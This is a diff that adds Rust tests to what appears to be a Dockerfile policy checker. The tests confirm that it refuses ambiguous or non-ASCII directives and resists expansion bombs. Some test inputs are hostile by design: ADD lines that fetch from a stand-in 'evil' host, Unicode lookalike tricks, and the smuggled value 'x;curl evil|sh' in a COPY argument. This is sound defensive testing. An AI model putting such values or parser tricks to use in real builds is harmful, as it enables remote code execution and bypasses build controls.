@@ -170,3 +170,34 @@ proptest! {
         prop_assert!(found(&text).iter().any(|(_, what)| what.contains("evil/x")));
     }
 }
+
+#[test]
+fn what_builders_could_read_in_two_ways_is_not_built() {
+    refused("# escape\u{a0}=`\nFROM busybox:1.36\nRUN true #`\nADD https://evil /x\n", 1, "escape");
+    refused("# escape=`\nFROM busybox:1.36\n", 1, "escape");
+    refused("FROM busybox:1.36\nCOPY --link\u{a0}--from=evil a /\n", 2, "outside ASCII");
+    refused("FROM busybox:1.36\nRUN --mount=type=tmpfs,target=/à--network=host true\n", 2, "outside ASCII");
+    refused("FROM busybox:1.36\nADD [\"http\\u003a//evil/x\", \"/\\ud800\"]\n", 2, "brackets");
+    refused("FROM busybox:1.36\nONBU\u{130}LD ADD http://evil /x\n", 2, "other letters");
+    fine("# escape=\\\nFROM busybox:1.36\nRUN echo 'à la carte' > /menü\nCOPY [\"a b\", \"/c/\"]\n");
+}
+
+#[test]
+fn a_small_text_cannot_ask_for_gigabytes() {
+    let value = format!("http://{}", "x".repeat(1000));
+    let mut text = "FROM busybox:1.36\n".to_owned();
+    text.extend((0..60).map(|number| format!("ENV X={value}{number}\n")));
+    text.extend((0..700).map(|_| format!("ADD {} /\n", "$X".repeat(128))));
+    let refusals = refusals("Dockerfile", &text, &BTreeMap::new(), &allowed());
+    assert!(!refusals.is_empty() && refusals.len() <= MOST, "{}", refusals.len());
+    let bytes: usize = refusals.iter().map(|refusal| refusal.what.len() + refusal.help.len()).sum();
+    assert!(bytes < 64 << 10, "{bytes}");
+}
+
+#[test]
+fn only_what_is_an_images_name_is_offered_to_be_allowed() {
+    let text = "FROM busybox:1.36\nCOPY --from='x;curl evil|sh' a b\nFROM nginx:alpine\n";
+    let refusals = refusals("Dockerfile", text, &BTreeMap::new(), &allowed());
+    let images: Vec<&str> = refusals.iter().filter_map(|refusal| refusal.image.as_deref()).collect();
+    assert_eq!(images, ["nginx:alpine"], "{refusals:?}");
+}
